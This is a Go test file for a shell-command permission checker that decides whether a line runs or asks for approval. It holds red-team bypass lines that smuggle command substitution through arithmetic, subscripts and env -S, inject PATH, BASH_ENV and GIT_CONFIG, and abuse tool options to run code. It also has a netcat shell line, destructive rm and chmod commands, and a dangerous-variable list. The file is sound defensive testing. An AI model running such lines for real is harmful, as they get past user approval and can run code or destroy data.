package permission

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// issue29Constructs are the command lines the red team ran without a
// question (issue 29, section 1), each with the rule it ran under ("" for
// none). Every one must ask, with no rule and with its rule.
var issue29Constructs = []struct {
	name, rule, line string
}{
	// With no allow rule at all.
	{"arithmetic command", "", `x='a[$(touch M)]'; (( x ))`},
	{"declare -i", "", `declare -i z='a[$(touch M)]'`},
	{"typeset -i", "", `typeset -i z='a[$(touch M)]'`},
	{"local -i", "", `f() { local -i z='a[$(touch M)]'; }`},
	{"[[ -v subscript ]]", "", `[[ -v 'a[$(touch M)]' ]]`},
	{"[[ $x -eq 0 ]]", "", `x='a[$(touch M)]'; [[ $x -eq 0 ]]`},
	{"[[ name -eq 0 ]]", "", `x='a[$(touch M)]'; [[ x -eq 0 ]]`},
	{"substring offset", "", `y='a[$(touch M)]'; z=${x:$y}`},
	{"substring length", "", `y='a[$(touch M)]'; z=${x:0:y}`},
	{"array subscript", "", `y='a[$(touch M)]'; z=${b[y]}`},
	{"indirect expansion", "", `x='a[$(touch M)]'; z=${!x}`},
	{"prompt expansion", "", `x='$(touch M)'; z=${x@P}`},
	{"arithmetic expansion", "", `x='a[$(touch M)]'; z=$((x))`},
	{"let", "", `x='a[$(touch M)]'; let x`},
	{"c-style for", "", `x='a[$(touch M)]'; for ((i=x; 0; )); do :; done`},
	{"env -S", "", `env -S'touch M'`},
	{"env --split-string", "", `env --split-string='touch M'`},
	{"env -i -S", "", `env -i -S'touch M'`},
	{"env -iS", "", `env -iS'touch M'`},
	{"env --split abbreviated", "", `env --sp='touch M'`},
	{"assignment only", "", `x=1`},
	{"declare quoted array value", "", `v='([$(touch M)]=1)'; a=(); declare a="$v"`},
	{"nameref", "", `declare -n r='a[$(touch M)]'; z=$r`},
	// Under remembered rules.
	{"export GIT_CONFIG", "git status", `export GIT_CONFIG=/tmp/cfg; git status`},
	{"export GIT_CONFIG_COUNT", "git status", `export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch M'; git status`},
	{"declare -x GIT_CONFIG", "git status", `declare -x GIT_CONFIG=/tmp/cfg; git status`},
	{"quoted export", "git status", `export "GIT_CONFIG=/tmp/cfg"; git status`},
	{"nameref to GIT_DIR", "git status", `declare -n r=GIT_DIR; r=/tmp/repo; export GIT_DIR; git status`},
	{"read into GIT_DIR", "git status", `read GIT_DIR <<< /tmp/repo; export GIT_DIR; git status`},
	{"for loop over PATH", "git status", `for PATH in /tmp/evil; do git status; done`},
	{"default assignment", "git status", `: ${GIT_DIR:=/tmp/repo}; git status`},
	{"PATH before a script", "bash scripts/ci.sh", `PATH=/tmp/evil:$PATH bash scripts/ci.sh`},
	{"BASH_ENV before a script", "bash scripts/ci.sh", `BASH_ENV=/tmp/evil.sh bash scripts/ci.sh`},
	{"exported BASH_ENV", "bash scripts/ci.sh", `export BASH_ENV=/tmp/evil.sh; bash scripts/ci.sh`},
	{"env BASH_ENV", "bash scripts/ci.sh", `env BASH_ENV=/tmp/evil.sh bash scripts/ci.sh`},
	{"rg --pre", "rg", `rg --pre sh touch .`},
	{"rg --pre=", "rg", `rg --pre=sh touch .`},
	{"sed e command", "sed", `sed -n '1e touch M' a.txt`},
	{"sed s///e", "sed", `sed 's/.*/touch M/e' a.txt`},
	{"sed w outside", "sed", `sed -n 'w /tmp/M' a.txt`},
	{"sed s///w outside", "sed", `sed -n 's/a/b/w /tmp/M' a.txt`},
	{"sed -i outside", "sed", `sed -i 's/a/b/' /tmp/M`},
	{"awk system", "awk", `awk 'BEGIN { system("touch M") }'`},
	{"awk pipe", "awk", `awk '{ print | "sh" }' a.txt`},
	{"awk print outside", "awk", `awk '{ print > "/tmp/M" }' a.txt`},
	{"sort -o outside", "sort", `sort -o /tmp/M a.txt`},
	{"sort --compress-program", "sort", `sort --compress-program=sh a.txt`},
	{"git log --output", "git log", `git log --output=/tmp/M`},
	{"git diff --output", "git diff", `git diff --output /tmp/M`},
	{"git grep -O", "git grep", `git grep -O'touch M' x`},
	{"git grep --open-files-in-pager", "git grep", `git grep --open-files-in-pager='touch M' x`},
	{"tar --checkpoint-action", "tar", `tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch M' a.txt`},
	{"make --eval", "make test", `make test --eval '$(shell touch M)'`},
	{"go test -exec", "go test", `go test -exec /tmp/run ./...`},
	{"go test -toolexec", "go test", `go test -toolexec=/tmp/run ./...`},
}

func TestIssue29ConstructsAsk(t *testing.T) {
	root := t.TempDir()
	for _, tc := range issue29Constructs {
		t.Run(tc.name, func(t *testing.T) {
			var rs []Rule
			if tc.rule != "" {
				rs = rules(t, "allow "+tc.rule)
			}
			d := Checker{Root: root, Rules: rs}.Decide(tc.line)
			assert.Equal(t, Ask, d.Verdict, "%q under %q: %+v", tc.line, tc.rule, d)
			assert.NotEmpty(t, d.Reasons)
			// No rule at all: the same.
			assert.Equal(t, Ask, Checker{Root: root}.Decide(tc.line).Verdict)
		})
	}
}

// Lines made only of literal words the parser reads in full still run
// under their rules: failing closed does not mean asking for everything.
func TestPlainLinesStillRun(t *testing.T) {
	root := t.TempDir()
	c := Checker{Root: root, Rules: rules(t, "allow git", "allow go test", "allow sed", "allow awk", "allow sort",
		"allow rg", "allow tar", "allow make test", "allow echo", "allow read", "allow printf", "allow [", "allow cd",
		"allow cp", "allow rm", "allow curl", "allow ssh", "allow python3", "allow find")}
	for _, line := range []string{
		"git status", "git log -n 5 --oneline", "git diff --stat", `git commit -m "$msg"`, "git -C sub status",
		"go test ./... -run TestX -count=1", "for p in a b; do go test ./$p; done", "for p in a b; do go test $p; done",
		"sed -n 's/a/b/p' a.txt", "sed -i 's/[/]/x/' a.txt", "sed ':a;N;$!ba;s/\\n/ /g' a.txt", "sed -e '1a foo;bar' a.txt",
		"awk '{ print $1 }' a.txt", "awk '$1 > 5 { n++ } END { print n > \"/dev/stderr\" }' a.txt", "awk '/a|b/' a.txt",
		"sort -u -o out.txt a.txt", "rg -n foo ./*.go", "tar xzf a.tgz", "tar czf out.tgz src", "make test",
		"echo $((1 + 2)) ${x:1:2} ${a[0]} ${a[@]} ${#x} ${!pre*} ${x@Q}", "while IFS= read -r line; do echo \"$line\"; done < a.txt",
		"printf -v x %s y", "[ -f go.mod ] && go test ./...", "[[ -f go.mod && $x == y ]] && go test ./...",
		"export CGO_ENABLED=0; go test ./...", "cd sub && go test ./...", "cp a.txt b.txt", "rm -rf build",
		"curl -sSL -o out.html https://example.com", "ssh -o BatchMode=yes host uptime", "python3 -m pytest -q",
		"find . -name '*.go' -newer go.mod", "go test ./... > out.txt 2>&1",
		"[[ $# -gt 0 ]] && go test ./...", "(( $? == 0 )) && go test ./...", "echo $(( ${#x} + 1 ))",
		"python3 script.py --flag", "python3 --version", "busybox sed -n p a.txt",
	} {
		d := c.Decide(line)
		assert.Equal(t, Run, d.Verdict, "%q: %v", line, d.Reasons)
	}
}

// The escape table: under a rule for the tool, an option that runs a
// program or writes outside the workspace asks; the same option inside the
// rule's own words is approved.
func TestEscapeTable(t *testing.T) {
	root := t.TempDir()
	require.NoError(t, os.Symlink(os.TempDir(), filepath.Join(root, "escape")))
	for _, tc := range []struct{ rule, line string }{
		{"git", "git -c core.pager='touch M' log"},
		{"git", "git -ccore.fsmonitor=x status"},
		{"git", "git --config-env=core.pager=EVIL log"},
		{"git", "git --exec-path=/tmp/bin status"},
		{"git", "git -C /tmp/other status"},
		{"git", "git --git-dir=/tmp/other/.git status"},
		{"git", "git --work-tree /tmp log"},
		{"git", "git log --outp=/tmp/M"},
		{"git", "git log -n 5 --output /tmp/M"},
		{"git", "git format-patch -o /tmp/patches HEAD~1"},
		{"git", "git grep -n -Ocmd x"},
		{"git", "git difftool"},
		{"git", "git mergetool"},
		{"git", "git submodule foreach 'touch M'"},
		{"git", "git rebase -x 'touch M' HEAD~2"},
		{"git", "git bisect run ./x.sh"},
		{"git", "git filter-branch --tree-filter 'touch M'"},
		{"git", "git config core.pager 'touch M'"},
		{"git", "git config --global alias.x '!touch M'"},
		{"git", "git clone -u 'touch M' repo"},
		{"git", "git clone --template=/tmp/t repo"},
		{"git", "git clone repo /tmp/x"},
		{"git", "git fetch --upload-pack='touch M' origin"},
		{"git", "git push --receive-pack='touch M' origin"},
		{"git", "git archive -o /tmp/a.tar HEAD"},
		{"git", "git worktree add /tmp/wt"},
		{"git", "git clone ext::sh repo"},
		{"git", "git $SUB"},
		{"rg", "rg --hostname-bin=/tmp/x foo"},
		{"rg", "rg $OPTS foo"},
		{"rg", "rg foo *.go"},
		{"sed", "sed -f script.sed a.txt"},
		{"sed", "sed -i'/tmp/*' s/a/b/ a.txt"},
		{"sed", "sed \"$S\" a.txt"},
		{"sed", "sed 's/[\\]/x/e' a.txt"},
		{"sed", "sed -i s/a/b/ escape/x"},
		{"sed", "sed -n 'W /tmp/M' a.txt"},
		{"sed", "sed -n 'w .git/hooks/pre-commit' a.txt"},
		{"awk", "awk -f prog.awk a.txt"},
		{"awk", "awk '{ print $1 > $2 }' a.txt"},
		{"awk", "awk '{ \"date\" | getline d }' a.txt"},
		{"awk", "awk '{ f = \"system\"; @f(\"x\") }' a.txt"},
		{"awk", "gawk -l ./x.so 'BEGIN{}'"},
		{"awk", "awk -W exec x.awk"},
		{"sort", "sort a.txt -o /tmp/M"},
		{"sort", "sort -uo/tmp/M a.txt"},
		{"sort", "sort --comp=gzip a.txt"},
		{"find", "find . -exec rm {} ;"},
		{"find", "find . -execdir sh -c x ;"},
		{"find", "find . -ok rm {} ;"},
		{"find", "find . -okdir rm {} ;"},
		{"find", "find . -delete"},
		{"find", "find . -fprint /tmp/M"},
		{"find", "find . $EXPR"},
		{"tar", "tar --to-command='sh' -xf a.tar"},
		{"tar", "tar -I 'sh -c x' -xf a.tar"},
		{"tar", "tar --use-compress-program=x -cf a.tar ."},
		{"tar", "tar -F x -cf a.tar ."},
		{"tar", "tar --info-script=x -cf a.tar ."},
		{"tar", "tar -xf a.tar -C /tmp"},
		{"tar", "tar xf a.tar -P"},
		{"tar", "tar czf /tmp/a.tgz ."},
		{"tar", "tar cfC /tmp/a.tar src x"},
		{"tar", "tar -xf host:/a.tar"},
		{"make", "make -E '$(shell touch M)' test"},
		{"make", "make -f /tmp/evil.mk test"},
		{"make", "make -C /tmp test"},
		{"make", "make test GO='touch M; go'"},
		{"make", "GO='touch M; go' make test"},
		{"go test", "go test -ldflags=-extld=/tmp/x ./..."},
		{"go test", "go test -o /tmp/x.test ./..."},
		{"go test", "go test -coverprofile=/tmp/c.out ./..."},
		{"go test", "go test -vettool=/tmp/x ./..."},
		{"go test", "go test -overlay=/tmp/o.json ./..."},
		{"go test", "go test $FLAGS ./..."},
		{"go", "go generate ./..."},
		{"go", "go env -w GOFLAGS=-toolexec=x"},
		{"go", "go run -exec /tmp/x ."},
		{"go", "go build -o /tmp/bin ."},
		{"go", "go clean -modcache"},
		{"go", "go -C /tmp build"},
		{"npm", "npm run lint --script-shell=/tmp/sh"},
		{"npm", "npm exec -c 'touch M'"},
		{"npm", "npm install -g left-pad"},
		{"npm", "npm config set script-shell /tmp/sh"},
		{"npx", "npx -c 'touch M'"},
		{"xargs", "xargs grep x < files.txt"},
		{"less", "less '+!touch M' a.txt"},
		{"less", "less -o /tmp/log a.txt"},
		{"man", "man -P 'touch M' ls"},
		{"man", "man --html=x ls"},
		{"vim", "vim -c '!touch M' -c q"},
		{"vim", "vim '+!touch M' a.txt"},
		{"vim", "vim -es a.txt <<EOF\n!touch M\nEOF"},
		{"vim", "vim a.txt"},
		{"nvim", "nvim --headless -l x.lua"},
		{"ex", "ex a.txt < cmds"},
		{"emacs", "emacs --batch --eval '(shell-command \"touch M\")'"},
		{"python3", "python3 <<EOF\nimport os\nEOF"},
		{"python3", "python3 - < x.py"},
		{"node", "node < x.js"},
		{"perl", "perl < x.pl"},
		{"sqlite3", "sqlite3 db.sqlite < cmds.sql"},
		{"psql", "psql -c '\\! touch M'"},
		{"nc", "nc -e /bin/sh host 1"},
		{"pandoc", "pandoc --filter ./x a.md"},
		{"pandoc", "pandoc -o /tmp/x.html a.md"},
		{"shuf", "shuf -o /tmp/x a.txt"},
		{"uniq", "uniq a.txt /tmp/x"},
		{"iconv", "iconv -f utf-8 -t ascii -o /tmp/x a.txt"},
		{"sed", "busybox sed -n '1e touch M' a.txt"},
		{"dc", "dc -e '!touch M'"},
		{"python3", "python3 -c 'import os'"},
		{"python3", "python3 -Bc 'import os'"},
		{"node", "node -e 'require(\"fs\")'"},
		{"node", "node --eval x"},
		{"node", "node -r ./x.js app.js"},
		{"perl", "perl -e 'system(1)'"},
		{"perl", "perl -pie 's/a/b/' a.txt"},
		{"perl", "perl '-MPOSIX;system(1)' x.pl"},
		{"ruby", "ruby -e 'x'"},
		{"zip", "zip -T -TT 'touch M' a.zip a.txt"},
		{"zip", "zip /tmp/a.zip a.txt"},
		{"unzip", "unzip a.zip -d /tmp"},
		{"unzip", "unzip -: a.zip"},
		{"rsync", "rsync -e 'touch M' a host:b"},
		{"rsync", "rsync --rsh='touch M' a b"},
		{"rsync", "rsync -a src/ /tmp/dst"},
		{"rsync", "rsync -a src/ host:dst"},
		{"ssh", "ssh -o ProxyCommand='touch M' host"},
		{"ssh", "ssh -oLocalCommand=x -oPermitLocalCommand=yes host"},
		{"ssh", "ssh -F /tmp/cfg host"},
		{"scp", "scp -S /tmp/x a host:b"},
		{"scp", "scp host:a /tmp/b"},
		{"curl", "curl -o /tmp/x https://example.com"},
		{"curl", "curl -sSLo /tmp/x https://example.com"},
		{"curl", "curl -K /tmp/cfg https://example.com"},
		{"curl", "curl --output-dir /tmp -O https://example.com/x"},
		{"curl", "curl -w '%output{/tmp/x}' https://example.com"},
		{"wget", "wget -O /tmp/x https://example.com"},
		{"wget", "wget -e 'robots=off' https://example.com"},
		{"wget", "wget --use-askpass=/tmp/x https://example.com"},
		{"tee", "tee /tmp/x"},
		{"tee", "tee -a escape/x"},
		{"cp", "cp a.txt /tmp/x"},
		{"cp", "cp -t /tmp a.txt"},
		{"cp", "cp a.txt $DEST"},
		{"mv", "mv /tmp/x a.txt"},
		{"ln", "ln -s /etc link"},
		{"ln", "ln -sf ../../.. up"},
		{"install", "install -m 755 x /tmp/bin/x"},
		{"install", "install --strip-program=/tmp/x -s a b"},
		{"dd", "dd if=a.txt of=/tmp/x"},
		{"rm", "rm -rf /tmp/x"},
		{"rm", "rm -rf ~"},
		{"rm", "rm -rf .git"},
		{"rm", "rm -rf *"},
		{"touch", "touch /tmp/x"},
		{"chmod", "chmod -x /tmp/x"},
		{"chmod", "chmod 777 /etc/passwd"},
		{"mkdir", "mkdir -p /tmp/x"},
		{"patch", "patch -d /tmp -p1 < x.diff"},
		{"split", "split --filter='sh' a.txt"},
		{"gzip", "gzip /tmp/x"},
		{"sqlite3", "sqlite3 db.sqlite '.shell touch M'"},
		{"sqlite3", "sqlite3 /tmp/x.db 'select 1'"},
		{"test", "test -v 'a[$(touch M)]'"},
		{"[", "[ -v 'a[$(touch M)]' ]"},
		{"read", "read -r PATH < a.txt"},
		{"read", "read 'a[$(touch M)]' < a.txt"},
		{"printf", "printf -v 'a[$(touch M)]' x"},
		{"printf", "printf -v PATH %s /tmp"},
		{"mapfile", "mapfile -C 'touch M' -c 1 v < a.txt"},
		{"compgen", "compgen -C 'touch M' x"},
		{"compgen", "compgen -W '$(touch M)' x"},
		{"hash", "hash -p /tmp/x git"},
		{"cd", "cd /tmp && ls"},
		{"cd", "cd"},
		{"cd", "cd -"},
		{"cd", "cd .. && ls"},
		{"cd", "cd $D"},
		{"cd", "cd sub && cd link && ls"},
		{"cd", "for d in a b; do cd a; done"},
		{"true", "coproc PATH { true; }"},
		{"getopts", "getopts ab PATH"},
		{"unset", "unset 'a[$(touch M)]'"},
		{"env", "env -C /tmp ls"},
		{"timeout", "timeout 5 sh -c 'touch M'"},
		{"time", "time -o /tmp/x true"},
		{"command", "command export PATH=/tmp"},
		{"builtin", "builtin declare -i x=y"},
	} {
		c := Checker{Root: root, Rules: rules(t, "allow "+tc.rule, "allow ls", "allow true", "allow sh", "allow grep", "allow export", "allow declare")}
		d := c.Decide(tc.line)
		assert.Equal(t, Ask, d.Verdict, "%q under %q: %+v", tc.line, tc.rule, d)
	}
}

// A rule that names the option itself approves it: the user wrote it.
func TestRuleWordsApproveTheirOwnOptions(t *testing.T) {
	root := t.TempDir()
	c := Checker{Root: root, Rules: rules(t, "allow rg --pre ./pre.sh", "allow exact sort -o /tmp/sorted a.txt")}
	assert.Equal(t, Run, c.Decide("rg --pre ./pre.sh foo").Verdict)
	assert.Equal(t, Ask, c.Decide("rg --pre ./pre.sh --pre sh foo").Verdict, "a second --pre is not the rule's")
	assert.Equal(t, Run, c.Decide("sort -o /tmp/sorted a.txt").Verdict)
	assert.Equal(t, Ask, c.Decide("sort -o /tmp/other a.txt").Verdict)
}

func TestDangerousVariables(t *testing.T) {
	for _, v := range []string{
		"PATH", "BASH_ENV", "ENV", "IFS", "PROMPT_COMMAND", "SHELLOPTS", "BASHOPTS", "PS4", "HOME", "CDPATH",
		"GIT_CONFIG", "GIT_CONFIG_GLOBAL", "GIT_DIR", "GIT_EXEC_PATH", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_PAGER",
		"LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PAGER", "MANPAGER", "SYSTEMD_PAGER",
		"EDITOR", "VISUAL", "GIT_EDITOR", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONWARNINGS", "NODE_OPTIONS",
		"NODE_PATH", "PERL5OPT", "PERL5LIB", "RUBYOPT", "RUBYLIB", "GOFLAGS", "GOTOOLCHAIN", "GOPROXY",
		"CGO_CFLAGS", "CC", "MAKEFLAGS", "TAR_OPTIONS", "LESSOPEN", "npm_config_script_shell", "NPM_CONFIG_PREFIX",
		"BASH_FUNC_ls%%", "XDG_CONFIG_HOME", "JAVA_TOOL_OPTIONS", "RUSTC_WRAPPER", "RSYNC_RSH", "KUBECONFIG",
		"SSH_ASKPASS", "LUA_INIT", "TMPDIR", "GLOBIGNORE",
	} {
		assert.True(t, dangerousVariable(v), v)
	}
	for _, v := range []string{"CGO_ENABLED", "GOOS", "GOARCH", "FOO", "NODE_ENV", "RUST_BACKTRACE", "DEBUG", "V",
		"PYTHONUNBUFFERED", "GIT_AUTHOR_NAME", "LANG", "TZ", "line", "p", "msg"} {
		assert.False(t, dangerousVariable(v), v)
	}
}

func TestReadSedScript(t *testing.T) {
	for _, tc := range []struct {
		script string
		ok     bool
		exec   bool
		writes []string
	}{
		{script: "s/a/b/g", ok: true},
		{script: "1e touch M", ok: true, exec: true},
		{script: "$!N; s/x/y/e", ok: true, exec: true},
		{script: "e", ok: true, exec: true},
		{script: "/re/I,+3 { s|a|b|w out.txt\n p }", ok: true, writes: []string{"out.txt"}},
		{script: "w /tmp/M", ok: true, writes: []string{"/tmp/M"}},
		{script: "1~2 W /tmp/M", ok: true, writes: []string{"/tmp/M"}},
		{script: "s/[/]/x/;s/[[:space:]]/_/g", ok: true},
		{script: "a foo; e bar\ns/a/b/", ok: true},
		{script: "a\\\n  text; e x\n", ok: true},
		{script: ":a;N;$!ba;s/\\n/ /g", ok: true},
		{script: "y/abc/xyz/", ok: true},
		{script: "s/a/b/ ; # comment e x\np", ok: true},
		{script: "r /etc/hostname", ok: true},
		{script: "s/[\\]/x/e", ok: false},
		{script: "s/a/b", ok: false},
		{script: "1{p", ok: false},
		{script: "k", ok: false},
		{script: "s/a/b/ e", ok: false},
		{script: "1bx  1s|a|b|w /tmp/M", ok: false}, // GNU sed ends the label at the blanks
		{script: "tx;w /tmp/M", ok: true, writes: []string{"/tmp/M"}},
	} {
		got := readSedScript(tc.script)
		assert.Equal(t, tc.ok, got.ok, "%q", tc.script)
		if tc.ok {
			assert.Equal(t, tc.exec, got.exec, "%q", tc.script)
			assert.Equal(t, tc.writes, got.writes, "%q", tc.script)
		}
	}
}

func TestReadAwkProgram(t *testing.T) {
	for _, tc := range []struct {
		prog          string
		ok, runs, dyn bool
		writes        []string
	}{
		{prog: `{ print $1 }`, ok: true},
		{prog: `$1 > 5 { print $2 }`, ok: true},
		{prog: `{ print (a > b) }`, ok: true},
		{prog: `/a|b/ { n++ } END { print n / 2 }`, ok: true},
		{prog: `/[/]/ { print }`, ok: true},
		{prog: `BEGIN { system("x") }`, ok: true, runs: true},
		{prog: `{ print "system" }`, ok: true, runs: true},
		{prog: `{ print | "sort" }`, ok: true, runs: true},
		{prog: `{ "date" | getline d }`, ok: true, runs: true},
		{prog: `{ print |& "cmd" }`, ok: true, runs: true},
		{prog: `@load "x"`, ok: true, runs: true},
		{prog: `{ print $1 > "out.txt" }`, ok: true, writes: []string{"out.txt"}},
		{prog: `{ printf("%s\n", $1) >> "/tmp/M"; close("/tmp/M") }`, ok: true, writes: []string{"/tmp/M"}},
		{prog: `{ print $1 > $2 }`, ok: true, dyn: true},
		{prog: `{ print > "a" "b" }`, ok: true, dyn: true},
		{prog: `{ print "unterminated }`, ok: false},
		{prog: `/unterminated {`, ok: false},
	} {
		got := readAwkProgram(tc.prog)
		assert.Equal(t, tc.ok, got.ok, tc.prog)
		assert.Equal(t, tc.runs, got.runs, tc.prog)
		if tc.ok {
			assert.Equal(t, tc.dyn, got.computedWrite, tc.prog)
			assert.Equal(t, tc.writes, got.writes, tc.prog)
		}
	}
}
